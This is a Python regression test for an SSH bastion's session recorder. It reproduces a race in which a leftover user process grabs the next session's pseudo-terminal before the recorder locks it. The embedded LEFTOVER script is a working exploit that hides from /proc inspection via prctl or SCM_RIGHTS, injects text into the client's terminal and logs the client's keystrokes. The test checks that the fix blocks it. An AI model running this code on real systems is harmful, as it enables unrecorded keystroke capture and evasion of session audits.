"""Attack review of issue 23 (branch attack23): a process of the user's,
left from an earlier session, takes the client's terminal of the user's
NEXT recorded session before the recorder makes it exclusive.

sshd allocates the session's pty and chowns /dev/pts/N to the user before
it runs the ForceCommand; the recorder sets TIOCEXCL only later, and the
gateway's audit side then looks for other holders through /proc/PID/fd.
A process that made itself not dumpable (prctl(PR_SET_DUMPABLE, 0), no
privilege needed) has a /proc/PID/fd that only root may read: the look
finds nothing ("not ours to see"), the shell starts, and the leftover
writes to the client and reads what the client types, none of it
recorded.  The same works without prctl by keeping the descriptor in
flight in a unix socket (SCM_RIGHTS) while the look runs.

Measured on main (a6fa42f): both variants open the new /dev/pts/N
(1 ms polling wins the window easily), the shell starts, the leftover's
writes reach the client and are in no recording, and the leftover reads
about half of the lines the client types (they reach neither the shell
nor the recording).

The session must either refuse to start a shell (the terminal is held) or
nothing of the leftover's may reach the client, and nothing the client
types may reach the leftover."""

import os
import re
import sys
import time
import unittest

import pexpect

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import test_gateway_recording as base                     # noqa: E402
from amfa_testlib import totp                             # noqa: E402
from gwlib import TAG, read                               # noqa: E402

base.ROLES = base.ROLES + ("ptyrace", "ptyfly")
setUpModule = base.setUpModule
tearDownModule = base.tearDownModule

# argv = log file, mode ("nodump" or "inflight").  nodump: not dumpable,
# holds the descriptor.  inflight: dumpable, but keeps the descriptor in
# flight in a unix socket (SCM_RIGHTS) until the recorder has a child (the
# shell), then takes it back.  Waits for a new /dev/pts entry of
# its uid and opens it before TIOCEXCL; then writes to the client and
# logs what it reads from it, for 40 seconds.
LEFTOVER = r"""
import ctypes, errno, os, socket, sys, time
mode = sys.argv[2]
if mode == "nodump":
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)      # PR_SET_DUMPABLE, 0
log = open(sys.argv[1], "a", buffering=1)
uid = os.getuid()
def owner_of(n):
    try:
        return os.stat("/dev/pts/" + n).st_uid
    except OSError:
        return None
# A pty's number is reused once it is freed (other tests run beside this
# one): a number seen here is new again when its owner changes.
seen = {n: owner_of(n) for n in os.listdir("/dev/pts") if n.isdigit()}
log.write("READY %d %s\n" % (os.getpid(), sorted(seen)))
# The client's terminal: the first new pty to appear (in the order seen)
# that becomes the user's -- root's at first (sshd's; the ssh clients' are
# root's for good) -- or is already the recorder's (argv[3]): too late.
# Other users' (other tests run beside this one) are left alone.  The
# recorded shell's own pty, later, is the user's too, but all of it is
# recorded.
rec = int(sys.argv[3])
fd, order, gone, end = None, [], set(), time.time() + 120
while fd is None and time.time() < end:
    for n in sorted(os.listdir("/dev/pts")):
        if not n.isdigit() or n in order:
            continue
        if n not in seen or owner_of(n) not in (seen[n], None):
            order.append(n)
    done = False
    for n in order:
        if n in gone:
            continue
        p = "/dev/pts/" + n
        try:
            owner = os.stat(p).st_uid
            if owner == 0:
                continue           # sshd's not given yet, or a client's
            if owner == rec:
                log.write("TAKEN %s\n" % p)
                done = True
                break
            if owner != uid:
                gone.add(n)        # another test's
                continue
            fd = os.open(p, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            log.write("OPENED %s\n" % p)
            break
        except OSError as e:
            if e.errno == errno.ENOENT:
                gone.add(n)
                continue
            log.write("%s %s\n" % (errno.errorcode.get(e.errno, e.errno), p))
            done = True
            break
    if done:
        break
    time.sleep(0.001)
if fd is None:
    log.write("NONE\n")
    sys.exit(0)
if mode == "inflight":
    a, b = socket.socketpair()
    socket.send_fds(a, [b"x"], [fd])
    os.close(fd)
    def shells():
        out = []
        for q in os.listdir("/proc"):
            try:
                with open("/proc/%s/stat" % q) as f:
                    pp = int(f.read().rsplit(")", 1)[1].split()[1])
                with open("/proc/%d/comm" % pp) as f:
                    if f.read().strip() == "awsmfa-recorder":
                        out.append(q)
            except (OSError, ValueError, IndexError):
                pass
        return set(out)
    old, end = shells(), time.time() + 60
    while not (shells() - old) and time.time() < end:
        time.sleep(0.01)
    time.sleep(0.5)
    _, fds, _, _ = socket.recv_fds(b, 10, 1)
    fd = fds[0]
    log.write("TAKEN BACK\n")
import threading
def reader():
    # Blocking reads compete with the recorder's for what the client types.
    import select
    while True:
        select.select([fd], [], [])
        try:
            d = os.read(fd, 100)
        except BlockingIOError:
            continue
        except OSError:
            return
        if not d:
            return
        log.write("READ %r\n" % d)
threading.Thread(target=reader, daemon=True).start()
end = time.time() + 40
while time.time() < end:
    try:
        os.write(fd, b"\r\nLEAK-" + b"42 unrecorded\r\n")
        log.write("WROTE\n")
    except OSError as e:
        log.write("WERR %s\n" % errno.errorcode[e.errno])
        break
    time.sleep(0.5)
log.write("DONE\n")
""".strip()


class PtyRace(unittest.TestCase):
    setUp = base.Recording.setUp
    logs_on_failure = base.Recording.logs_on_failure
    login = base.Recording.login
    shell = base.Recording.shell

    # A process the user left behind may still open the next session's
    # terminal in the moment between sshd handing it to the user and the
    # recorder making it exclusive; the recorder then hangs up every such
    # descriptor (vhangup(2), gateway/recording/tty_revoke.h): once the
    # shell runs, the leftover's writes fail (EIO) and its reads end.
    def test_not_dumpable_leftover_takes_next_sessions_terminal(self):
        self.attack("nodump", "ptyrace")

    def test_fd_in_flight_leftover_takes_next_sessions_terminal(self):
        self.attack("inflight", "ptyfly")

    def attack(self, mode, role):
        base.gateway_conf()
        p, first = self.login(role)
        out = self.shell(first, "echo SH=$$")
        shell = int(re.search(r"SH=(\d+)", out).group(1))
        self.addCleanup(base.kill_session, shell)
        log = "/tmp/amfa-ptyrace-%s.log" % TAG
        script = "/tmp/amfa-ptyrace-%s.py" % TAG
        with open(script, "w") as f:
            f.write(LEFTOVER)
        os.chmod(script, 0o644)
        self.addCleanup(os.unlink, script)
        self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
        self.shell(first, "setsid -f /usr/bin/python3 %s %s %s %d "
                   "</dev/null >/dev/null 2>&1"
                   % (script, log, mode, base.REC_PW.pw_uid))
        deadline = time.time() + 30
        while time.time() < deadline and "READY" not in (
                os.path.exists(log) and read(log) or ""):
            time.sleep(0.1)
        self.assertIn("READY", read(log))
        leftover = int(re.search(r"READY (\d+)", read(log)).group(1))
        self.addCleanup(self.kill, leftover)
        # The second login: the next step's code (window = 1 accepts it,
        # and it is later than the first login's), no wait for a new step.
        p2 = base.PEOPLE[role]
        c = base.Client(p2.key, [base.BASTION])
        second = c.spawn(c.ssh_args(base.BASTION, p2.name, tty=True),
                         timeout=60)
        second.setwinsize(24, 80)
        base.answer(second, [totp(p2.seed, time.time() + 30)])
        i = second.expect([r"\$ ", "held by", pexpect.EOF, pexpect.TIMEOUT],
                          timeout=60)
        if i in (1, 2):
            return          # the shell did not start: held
        self.assertEqual(i, 0, "no prompt: %r" % second.before)
        # Before the prompt, the leftover may have written to the client
        # in the moment between sshd's chown and the recorder's first act
        # (awsmfa-gateway(8), "What remains"); from the recorded shell on,
        # nothing of it reaches the client and it reads nothing.
        early = "LEAK-42" in second.before
        for n in range(20):
            second.send("typed-secret-%d\r" % n)
            time.sleep(0.05)
        leaked = second.expect(["LEAK-42", pexpect.TIMEOUT], timeout=5) == 0
        time.sleep(2)
        text = read(log)
        second.sendline("exit 0")
        first.sendline("exit 0")
        second.expect(pexpect.EOF, timeout=60)
        first.expect(pexpect.EOF, timeout=60)
        recs = [r["recording"] for r in base.audit_records(p.name, "shell")]
        in_recording = any("LEAK-42" in read(r) for r in recs)
        print("leftover log:\n%s\nclient saw LEAK-42 before the prompt: "
              "%s, after: %s; in a recording: %s"
              % (text, early, leaked, in_recording), file=sys.stderr)
        self.assertFalse(leaked, "the leftover's writes reached the client "
                         "in the recorded session (in a recording: %s): %s"
                         % (in_recording, text))
        # "READ <bytes>" lines (not "READY"): what the leftover read.
        self.assertNotRegex(text, r"(?m)^READ ", "the leftover read the "
                            "client's keystrokes: %s" % text)
        # The race was run: the leftover found the client's terminal
        # (else this test shows nothing).
        self.assertRegex(text, r"(?m)^(OPENED|TAKEN|EACCES|EBUSY) ", text)
        if "OPENED" in text:
            # It did win the race: its descriptor is hung up, for good.
            self.assertIn("WERR EIO", text, "the leftover's descriptor of "
                          "the terminal still works: %s" % text)

    @staticmethod
    def kill(pid):
        try:
            os.kill(pid, 9)
        except ProcessLookupError:
            pass


if __name__ == "__main__":
    if os.geteuid() != 0:
        print("SKIP: needs root (sshd, accounts, set-id copies, a mount "
              "namespace)")
        sys.exit(77)
    for what, path in (("module", base.MODULE), ("gateway", base.GATEWAY),
                       ("recorder", base.RECORDER)):
        if not path or not os.path.exists(path):
            print("missing %s (%r): run through meson test" % (what, path))
            sys.exit(1)
    unittest.main(verbosity=2)
